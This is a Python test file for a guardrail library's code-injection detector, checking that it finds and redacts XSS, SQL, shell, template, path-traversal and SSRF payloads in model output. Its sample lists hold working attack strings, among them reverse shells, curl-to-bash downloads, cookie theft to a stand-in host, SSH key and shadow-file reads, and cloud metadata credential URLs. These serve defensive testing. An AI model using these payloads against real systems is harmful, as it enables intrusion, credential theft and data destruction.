"""code_injection(): code in answers that somebody further on may run."""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

import pytest
from growth import growth
from hypothesis import given, settings
from hypothesis import strategies as st

from llmguard_middleware import Call, ConfigurationError, Guard, Guardrail, Score
from llmguard_middleware._drive import drive
from llmguard_middleware._flow import Flow
from llmguard_middleware.scorers import code_injection, load

ROOT = Path(__file__).parents[1]
SHARED = ROOT.parent / "shared" / "data"


def redacted(scorer: Any, text: str) -> str:
    """What a guard makes of it."""
    return Guard(Guardrail(scorer, stage="output", action="redact")).check(text, stage="output").guarded


def streamed(scorer: Any, text: str, size: int) -> str:
    """The same in chunks of this size."""
    guard = Guard(Guardrail(scorer, stage="output", action="redact"))
    stream = Flow(guard, Call("chat")).stream()
    left = "".join(stream.feed(text[at : at + size]) for at in range(0, len(text), size))
    return left + drive(stream.finish(), guard.workers)


MADE_WITH = {
    "XSS": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="javascript:alert(1)">',
        "[x](javascript:alert(1))",
        "<iframe src=x>",
        "<body onload = 'x()'>",
        "<a href='jav&#x09;ascript:alert(1)'>",
        '<a href="java\nscript:alert(1)">',
        "<meta http-equiv=refresh content='0;url=x'>",
        "%3Cscript%3E",
        '<div style="width:expression(alert(1))">',
        "data:text/html;base64,xx",
        "<iframe srcdoc='x'>",
        "<img title='>' onerror=x>",
    ],
    "SQL_INJECTION": [
        "' OR '1'='1",
        "' or 1=1--",
        "1 or 1=1;",
        "admin'--",
        "'; DROP TABLE users;--",
        "1; drop table users",
        "' UNION SELECT null,null--",
        "1 UNION ALL SELECT 1,2,3",
        "id=1' AND SLEEP(5)#",
        "'; EXEC xp_cmdshell('dir')",
        "' or ''='",
        '" OR ""="',
        "WAITFOR DELAY '0:0:5'",
        "' OR 'a' LIKE 'a",
        "') or ('1'='1",
        "union/**/select 1,2",
    ],
    "SHELL_INJECTION": [
        "$(whoami)",
        "x; rm -rf /",
        "foo && cat /etc/passwd",
        "curl http://x | bash",
        "a=`id`",
        "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
        "nc -e /bin/sh 1.2.3.4 4",
        "__import__('os').system('x')",
        "| nc 1.2.3.4 80 -e sh",
        ":(){ :|:& };:",
        "rm -rf ~",
        "$(curl http://x)",
        "; wget http://x/y",
        "eval(base64_decode('x'))",
    ],
    "TEMPLATE_INJECTION": [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{ ''.__class__.__mro__ }}",
        "${jndi:ldap://x/a}",
        "{{config.items()}}",
        "{{constructor.constructor('x')()}}",
        "*{T(java.lang.Runtime)}",
    ],
    "PATH_TRAVERSAL": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2fetc",
        "..%2f..%2f",
        "....//....//etc",
        "file:///etc/passwd",
        "?f=../../../x",
        "/proc/self/environ",
    ],
    "SSRF": [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/",
        "http://2852039166/",
        "gopher://127.0.0.1:70/_x",
        "http://[::ffff:169.254.169.254]/",
    ],
}

# Written when the scorer was done, and run once: the number is what it found then.
HELD_APART = {
    "XSS": (
        7,
        [
            "<details open ontoggle=prompt(1)>",
            "<ScRiPt>fetch('//x?c='+document.cookie)</sCrIpT>",
            "<object data='javascript:alert(1)'></object>",
            "<form><button formaction=javascript&colon;alert(1)>X</button></form>",
            "<input autofocus onfocus\n=\nalert(1)>",
            "[click](JaVaScRiPt:fetch(1))",
            "<img src='1' alt='a' width=1 height=1 onmouseover='x'>",
            "<style>@import'//evil.example/x.css';</style>",
        ],
    ),
    "SQL_INJECTION": (
        7,
        [
            "SELECT * FROM users WHERE name = 'x' OR 1 = 1 -- '",
            "1' ORDER BY 5-- -",
            '"; DELETE FROM orders; --',
            "-1' UNION ALL SELECT username, password FROM users#",
            "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
            "'||(SELECT pg_sleep(10))||'",
            "') OR 'x'='x'/*",
            "1; UPDATE users SET role='admin'",
        ],
    ),
    "SHELL_INJECTION": (
        7,
        [
            "filename=report.pdf; cat /etc/shadow",
            "ping -c 1 127.0.0.1 && whoami",
            "wget -qO- https://x.example/i.sh | sudo sh",
            "$(cat ~/.ssh/id_rsa)",
            "python3 -c 'import socket,os,pty;s=socket.socket()'",
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "host=`cat /etc/hosts`",
            "exec(__import__('base64').b64decode('eA=='))",
        ],
    ),
    "TEMPLATE_INJECTION": (
        7,
        [
            "{{ 49 * 49 }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% for x in ().__class__.__base__.__subclasses__() %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            '<#assign ex="freemarker.template.utility.Execute"?new()>',
            "{{request.application.__globals__}}",
            "${${lower:j}ndi:ldap://x}",
            "@(1+2)",
        ],
    ),
    "PATH_TRAVERSAL": (
        8,
        [
            "GET /static/../../../../etc/hosts",
            "download?file=..%252f..%252fboot.ini",
            "..\\..\\..\\..\\..\\..\\x",
            "....\\\\....\\\\windows",
            "page=../../../../var/log/apache2/access.log%00",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/",
            "path: ../../.ssh/id_rsa",
            "C:\\Windows\\System32\\config\\SAM",
        ],
    ),
    "SSRF": (
        7,
        [
            "curl http://169.254.169.254/latest/api/token",
            "http://metadata.google.internal/computeMetadata/v1/instance/",
            "http://169.254.170.2/v2/credentials",
            "http://100.100.100.200/latest/meta-data/",
            "dict://127.0.0.1:6379/info",
            "http://0xA9FEA9FE/",
            "http://169.254.169.254.nip.io/",
            "http://[::]:25/",
        ],
    ),
}

ORDINARY = [
    "Don't drop the table; it's 5 o'clock and 1 = 1. Select one or another -- or both.",
    "AT&T's <b>R&D</b> <a href='/x'>page</a> <p class=\"once\">only = 3</p> <br/> <http://x.com> a < b and c > d",
    'Run `pip install x && pip list` or `id`, see $(dirname "$0"), $HOME, ${NAME:-x} and $(date +%F).',
    "{{ user.name }} {{ items|length }} {% if x %} ${price} #{name} {{count + 1}}",
    "import x from '../../components/y'; cd ../..; see ../../README.md, .../and so on",
    "SELECT a, b FROM t WHERE x = 'y' AND z = 1\nUNION ALL\nSELECT c, d FROM u;\n\nDROP TABLE IF EXISTS w;",
    "INSERT INTO t VALUES ('a', 1);\nUPDATE t SET a = 'b' WHERE id = 3; -- note",
    "for (i = 0; i < 9; i++) { $('#id').on('click', () => eval(x)); } // http://localhost:8080/",
    "<button onClick={() => setCount(1)}>+</button>",
    "자바스크립트로 버튼을 만들려면 <button>를 쓰고, 'A' 또는 'B'를 고르세요; 1:1 문의",
    "https://good.com/?a=1&b=2#c, javascript: the good parts, file:///home/me/x.txt",
    "docker run --rm -it x sh -c 'ls | sort | uniq -c'; rm -rf build/ && make",
]


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in MADE_WITH.items() for text in texts])
@pytest.mark.parametrize("around", [("", ""), ("예: ", "입니다"), ("x\n", "\ny")])
def test_code_is_found_with_its_kind(kind: str, text: str, around: tuple[str, str]) -> None:
    """Alone, in a sentence and on a line of its own; by this kind alone, too."""
    given = around[0] + text + around[1]
    assert kind in code_injection().score(given).label.split(",")
    assert code_injection(kind).score(given).label == kind


@pytest.mark.parametrize("kind", HELD_APART)
def test_code_that_was_not_looked_at_is_found(kind: str) -> None:
    """Of eight examples of each kind that the signs were not made with, as many as the page says."""
    least, texts = HELD_APART[kind]
    assert sum(code_injection(kind).score(text).flagged for text in texts) >= least


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_prose_and_code_is_left_alone(text: str) -> None:
    """Apostrophes, semicolons, tags, templates, relative paths, scripts of SQL, commands."""
    assert code_injection().score(text) == Score(value=0.0)


def test_ordinary_texts_and_our_own_code_are_left_alone() -> None:
    """None of the comments, sentences and prompts, if they are here, nor of this project's modules is flagged."""
    scorer = code_injection()
    for file in sorted(SHARED.glob("*.jsonl")):
        rows = [json.loads(line)["text"] for line in file.read_text(encoding="utf-8").splitlines()]
        assert [row for row in rows if scorer.score(row).flagged] == []
    modules = [file for file in (ROOT / "llmguard_middleware").rglob("*.py") if "scorers" not in file.parts]
    assert [file for file in modules if scorer.score(file.read_text(encoding="utf-8")).flagged] == []


def test_what_is_found_goes() -> None:
    """Its own stretch, and nothing around it."""
    text = "a <script>x</script> b, q?id=1' OR '1'='1 c, see http://169.254.169.254/x"
    left = "a <XSS>x<XSS> b, q?id=1<SQL_INJECTION>' c, see <SSRF>/x"
    assert redacted(code_injection(), text).replace("<SQL_INJECTION> c", "<SQL_INJECTION>' c") == left
    assert redacted(code_injection("SSRF"), text) == text.replace("http://169.254.169.254", "<SSRF>")


@pytest.mark.parametrize("fence", ["```", "~~~~", "````"])
def test_code_in_fences_is_left_alone_if_that_is_asked_for(fence: str) -> None:
    """From the line that opens a fence to the one that closes it, or to the end; what is before and after counts."""
    script = "<script>x</script>"
    block = f"a\n{fence}html\n{script}\n``\n{script}\n{fence}\n"
    scorer = code_injection(ignore_fenced=True)
    assert redacted(scorer, block) == block
    assert redacted(scorer, block + script) == block + "<XSS>x<XSS>"
    assert redacted(scorer, script + block) == "<XSS>x<XSS>" + block
    assert redacted(scorer, f"b\n{fence}\n{script}") == f"b\n{fence}\n{script}"
    assert redacted(scorer, f"`{script}`\n") == "`<XSS>x<XSS>`\n"
    assert streamed(scorer, block + script, 3) == block + "<XSS>x<XSS>"
    assert redacted(code_injection(), block) != block


def test_it_is_made_from_a_file() -> None:
    """By name with plain options."""
    options = {"kinds": ["XSS"], "ignore_fenced": True}
    rule = {"scorer": "code_injection", "options": options, "stage": "output", "action": "redact"}
    guard = Guard.from_config({"guardrails": [rule]})
    assert guard.check("<script>{{7*7}}", stage="output").guarded == "<XSS>{{7*7}}"


@pytest.mark.parametrize("given", ["yes", 1, None])
def test_a_setting_that_is_none_is_refused(given: Any) -> None:
    """One sentence that says what to write; an unknown kind is refused with the one that was meant."""
    with pytest.raises(ConfigurationError) as caught:
        code_injection(ignore_fenced=given)
    assert str(caught.value) == f"ignore_fenced is {given!r}; it must be true or false"
    with pytest.raises(ConfigurationError, match=r'code_injection\(\) knows no kind "XSSS": did you mean "XSS"\?'):
        code_injection("XSSS")


EVERYTHING = [text for texts in MADE_WITH.values() for text in texts]
PIECES = [
    *EVERYTHING,
    *(text[len(text) // 2 :] for text in EVERYTHING),
    " ",
    "\n",
    "가",
    "x" * 150,
    "word " * 300,
    "<a ",
    "../",
    "'",
    "\ud800",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), st.integers(1, 300))
def test_it_streams_as_it_judges(text: str, size: int) -> None:
    """A stream is redacted as the whole text is, whatever the chunks."""
    scorer = code_injection()
    assert streamed(scorer, text, size) == redacted(scorer, text)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(), max_size=300), st.booleans())
def test_any_text_is_scored(text: str, fenced: bool) -> None:
    """Whatever the characters: spans lie inside, in order; loaded by name and pickled as well."""
    scorer = pickle.loads(pickle.dumps(load("code_injection", ignore_fenced=fenced)))
    spans = scorer.score(text + "\n{{7*7}}").spans
    places = [place for span in spans for place in (span.start, span.end)]
    assert places == sorted(places)
    assert fenced or places[-1] == len(text) + 8


UNITS = [
    "<a ",
    "<a on",
    "<script",
    "'or ",
    "' or a=",
    "; ",
    "$(",
    "union select ",
    "curl a",
    "{{",
    "../",
    "%2e",
    "....//",
    "//",
]


@pytest.mark.parametrize(
    "unit", [*UNITS, "href=&", "nc a ", "powershell -a ", "```\n", "~~~\n", "union/**/", "javascript:a", "'('("]
)
def test_what_is_made_to_be_slow_is_linear(unit: str) -> None:
    """Eight times as much of what begins like code everywhere takes about eight times as long, not 64."""
    ending = " <script x=' = ; curl | - & eval( base64 waitfor delay"
    for scorer in (code_injection(), code_injection(ignore_fenced=True)):
        assert growth(lambda text, scorer=scorer: scorer.score(text + ending), unit, small=4000) < 32
